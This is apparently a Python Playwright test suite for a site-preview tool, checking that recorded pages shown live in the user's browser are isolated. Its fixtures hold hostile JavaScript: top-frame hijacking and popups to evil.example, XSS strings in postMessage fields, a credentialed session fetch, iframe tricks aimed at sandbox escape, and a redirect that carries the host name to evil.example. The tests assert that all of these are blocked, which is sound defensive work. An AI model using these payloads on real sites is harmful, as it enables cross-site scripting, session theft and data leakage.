"""Live copies in the user's own browser: beside each other, one change at a time, and hostile pages in them."""

from __future__ import annotations

import html
import json
import re
import threading
from socketserver import ThreadingMixIn
from typing import Any
from wsgiref.simple_server import WSGIRequestHandler, WSGIServer, make_server

from django.test import override_settings
from playwright.sync_api import Dialog, Frame, Page, expect

from server.previews.wsgi import application
from tests.browser.test_interface import InterfaceCase
from tests.core.capture.test_recordings import entry, har
from tests.sites import page as page_of
from tests.sites import photo

OWN, FAR = "https://mill.example", "https://far.example"
SCRIPT = b"""
const host = ["far", "example"].join(".");
fetch("https://" + host + "/words.json").then((r) => r.json()).then((w) => {
document.getElementById("words").textContent = w.text; });
localStorage.setItem("seen", "yes");
document.getElementById("kept").textContent = localStorage.getItem("seen") + document.cookie;
"""
# What a page may try against whoever looks at it.
HOSTILE = b"""
const tried = [];
const attempt = (name, act) => { try { act(); } catch { tried.push(name); } };
if (self !== top) attempt("top", () => { top.location = "https://evil.example/"; });
attempt("parent", () => parent.document.title);
attempt("open", () => { if (!open("https://evil.example/")) throw 0; });
alert("Pay here"); confirm("Sure?"); print();
for (const message of [null, 1, "x", {}, { unladen: "live" }, { unladen: "live", what: "at", y: "x", path: 1 },
  { unladen: "live", what: "at", y: NaN, path: "/" }, {
  unladen: "live", what: "there", y: 0, path: "javascript:alert(1)" },
  { unladen: "live", what: "key", key: "Enter" }, {
  unladen: "live", what: "held", url: "<img src=x onerror=alert(1)>" }])
  parent.postMessage(message, "*");
const reached = (what) => { document.getElementById("kept").textContent += what; };
fetch("APP/api/session", { credentials: "include" }).then(() => reached("answered"), () => reached("refused"));
new Image().src = "https://evil.example/pixel.gif";
document.getElementById("tried").textContent = tried.join(" ");
"""
PAGE = page_of(
    "<p id=words></p><p id=kept></p><img src=a.jpg width=300 height=200><a href=/next.html>Next</a>"
    "<div style='height:3000px'></div><img src=b.jpg width=300 height=200><p>The end</p>",
    f"<script defer src={FAR}/t.js></script>",
    "The mill",
)


# A document that says whether it could reach others past the policy, and one that holds such a document.
INNER = "<script>parent.postMessage(`${name} ${typeof RTCPeerConnection}`, '*')</script>"
NESTED = f'<!doctype html><iframe name=nested srcdoc="{html.escape(INNER)}"></iframe>'
FRAMES = b"""
const inner = INNER, said = [], words = document.getElementById("words");
addEventListener("message", (event) => {
  if (typeof event.data === "string") { said.push(event.data); words.textContent = said.join(", "); }
});
const frame = (name) => Object.assign(document.createElement("iframe"), { name });
const one = frame("property"); one.srcdoc = inner; document.body.append(one);
const two = frame("attribute"); two.setAttribute("srcdoc", inner); document.body.append(two);
const quoted = inner.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
const text = (name) => `<iframe name=${name} srcdoc="${quoted}"></iframe>`;
document.body.insertAdjacentHTML("beforeend", `<div>${text("text")}</div>`);
const host = document.createElement("div"); document.body.append(host);
host.attachShadow({ mode: "closed" }).innerHTML = text("shadow");
const three = frame("nesting"); three.srcdoc = NESTED; document.body.append(three);
const blob = URL.createObjectURL(new Blob([inner], { type: "text/html" }));
const six = frame("pretended");
six.srcdoc = `<script data-unladen=bar></script>${inner}`; document.body.append(six);
for (const src of [`data:text/html,${encodeURIComponent(inner)}`, blob]) {
  const four = frame(src.slice(0, 4)); four.src = src; document.body.append(four);
}
const five = frame("blank"); document.body.append(five);
try { said.push(`blank ${typeof five.contentWindow.RTCPeerConnection}`); } catch { /* of another origin */ }
"""


def _quoted(text: str) -> bytes:
    """A text as a script in a page may hold it."""
    return json.dumps(text).replace("</", "<\\/").encode()


class _Server(ThreadingMixIn, WSGIServer):
    daemon_threads = True


class _Quiet(WSGIRequestHandler):
    def log_message(self, *_: Any) -> None:
        """Nothing."""


class Live(InterfaceCase):
    def setUp(self) -> None:
        super().setUp()
        server = make_server("127.0.0.1", 0, application, _Server, _Quiet)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        self.port = server.server_address[1]
        settings = override_settings(PREVIEW_PORT=self.port)
        settings.enable()
        self.addCleanup(settings.disable)

    def recorded(self, script: bytes, part: str) -> Page:
        page = self.sign_in()
        path = self.folder / "mill.har"
        words = json.dumps({"text": "Words from afar"}).encode()
        site = har(
            entry(f"{OWN}/", PAGE),
            entry(f"{OWN}/next.html", page_of("<p>The next one</p><img src=a.jpg width=300 height=200>")),
            entry(f"{OWN}/a.jpg", photo(1200, 800), "image/jpeg"),
            entry(f"{OWN}/b.jpg", photo(900, 600, 2), "image/jpeg"),
            entry(f"{FAR}/t.js", script, "text/javascript"),
            entry(f"{FAR}/words.json", words, "application/json"),
        )
        path.write_text(json.dumps(site))
        self.drop(path)
        self.await_figures()
        page.goto(re.sub(r"/sort.*", f"/lighten?part={part}", page.url))
        return page

    def frame(self, page: Page, title: str) -> Frame:
        """The live page of this title, once it is there."""
        handle = page.locator(f"iframe[title='{title}']")
        expect(handle).to_be_attached()
        found = handle.element_handle().content_frame()
        assert found is not None
        found.wait_for_load_state()
        return found

    def test_both_live_with_all_hosts_scroll_together_and_follow_each_other(self) -> None:
        page = self.recorded(SCRIPT, "live")
        found, planned = self.frame(page, "As found"), self.frame(page, "Current plan")
        for frame in (found, planned):
            expect(frame.locator("#words")).to_have_text("Words from afar")
            expect(frame.locator("#kept")).to_have_text("yes")
        found.evaluate("scrollTo(0, 1500)")
        expect(page.locator("iframe[title='Current plan']")).to_be_attached()
        planned.wait_for_function("Math.abs(scrollY - 1500) < 2")
        planned.evaluate("scrollTo(0, 300)")
        found.wait_for_function("Math.abs(scrollY - 300) < 2")
        # A change that is switched shows at once.
        change = page.get_by_role("switch", name=re.compile("Turn on Resize to shown size.*a.jpg"))
        wide = (
            "async () => { const i = new Image(); i.src = document.images[0].currentSrc; await i.decode(); "
            "return i.naturalWidth; }"
        )
        self.assertEqual(planned.evaluate(wide), 1200)
        change.click()
        expect(change).to_be_checked()
        expect(page.locator("iframe[title='Current plan']")).to_be_visible()
        page.wait_for_function("document.querySelectorAll('.live iframe').length === 2")
        self.assertLess(self.settled(page, "Current plan", wide), 1200)
        # A link leads on one side only, until somebody wants both.
        self.frame(page, "As found").get_by_text("Next").click()
        page.get_by_role("button", name="Open /next.html on the right too").click()
        expect(page.frame_locator("iframe[title='Current plan']").get_by_text("The next one")).to_be_visible()
        strangers = [url for url in self.elsewhere if f".localhost:{self.port}/" not in url]
        self.assertEqual((strangers, self.trouble), ([], []))

    def settled(self, page: Page, title: str, ask: str) -> Any:
        """The answer of a frame that was just loaded anew."""
        expect(page.frame_locator(f"iframe[title='{title}']").get_by_text("The end")).to_be_attached()
        return self.frame(page, title).evaluate(ask)

    def test_a_hostile_page_reaches_nothing_and_it_is_said(self) -> None:
        reached: list[str] = []
        self.page.on("requestfinished", lambda request: reached.append(request.url))
        dialogs: list[str] = []

        def asked(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        self.page.on("dialog", asked)
        page = self.recorded(
            HOSTILE.replace(b"APP", self.live_server_url.encode()).replace(b'"tried"', b'"words"'), "live"
        )
        found = self.frame(page, "As found")
        expect(found.locator("#words")).to_have_text("top parent open")
        expect(page.locator(".live-heads")).to_contain_text("outside the recording blocked")
        self.assertTrue(page.url.startswith(self.live_server_url))
        self.assertEqual(len(page.context.pages), 1)
        # Its question for the session was answered by nobody.
        expect(found.locator("#kept")).to_have_text("refused")
        self.assertEqual(dialogs, [])
        self.assertFalse([url for url in reached if "evil.example" in url])

    def test_no_frame_that_a_page_makes_reaches_a_host_past_the_policy(self) -> None:
        script = FRAMES.replace(b"INNER", _quoted(INNER)).replace(b"NESTED", _quoted(NESTED))
        page = self.recorded(script, "live")
        words = self.frame(page, "As found").locator("#words")
        for name in ("property", "attribute", "text", "shadow", "pretended"):
            expect(words).to_contain_text(f"{name} undefined")
        expect(words).not_to_contain_text("function")
        frames = [frame for frame in page.frames if frame.name == "nested"]
        self.assertEqual({frame.evaluate("typeof RTCPeerConnection") for frame in frames}, {"undefined"})

    def test_a_page_in_a_tab_of_its_own_cannot_carry_its_address_away(self) -> None:
        away = b"""
        const far = "https://evil.example/?" + location.host;
        document.getElementById("words").textContent = typeof RTCPeerConnection;
        setTimeout(() => { document.getElementById("kept").textContent = "tried"; location.href = far; }, 50);
        """
        page = self.recorded(away, "live")
        address = page.locator("iframe[title='As found']").get_attribute("src") or ""
        reached: list[str] = []
        tab = page.context.new_page()
        tab.on("requestfinished", lambda request: reached.append(request.url))
        tab.goto(address)
        expect(tab.frame_locator("iframe").locator("body")).not_to_contain_text("The end")  # it tried, and is gone
        self.assertTrue(tab.url.startswith("http://found-"))
        self.assertTrue(any("live.js" in url for url in reached))
        self.assertFalse([url for url in reached if "evil.example" in url])

    def test_one_by_one_by_keys_alone(self) -> None:
        page = self.recorded(SCRIPT, "one")
        expect(page.locator(".decide")).to_contain_text("1 of ")
        self.frame(page, "With the change")
        first = page.locator(".decide b").first.inner_text()
        page.keyboard.press("k")
        expect(page.locator(".decide")).to_contain_text("1 decided")
        expect(page.locator(".decide b").first).not_to_have_text(first)
        page.keyboard.press("d")
        expect(page.locator(".decide, .narrow")).to_contain_text("2 decided")
        page.keyboard.press("p")
        page.keyboard.press("p")
        expect(page.locator(".decide b").first).to_have_text(first)
        expect(page.locator(".decide")).to_contain_text("kept")
        # Held, b shows it without; a key in the page itself is heard as well.
        without, with_it = (
            page.locator(f"iframe[title='{title}']") for title in ("Without the change", "With the change")
        )
        expect(without).to_be_hidden()
        page.keyboard.down("b")
        expect(without).to_be_visible()
        expect(with_it).to_be_hidden()
        page.keyboard.up("b")
        expect(with_it).to_be_visible()
        page.keyboard.press("v")
        expect(page.get_by_text("tablet 820")).to_be_visible()
        self.frame(page, "With the change").locator("body").press("n")
        expect(page.locator(".decide")).to_contain_text("2 of ")
        page.goto(re.sub(r"\?.*", "", page.url))
        expect(page.locator(".trail")).to_contain_text("1 on")
        self.assertEqual(self.trouble, [])
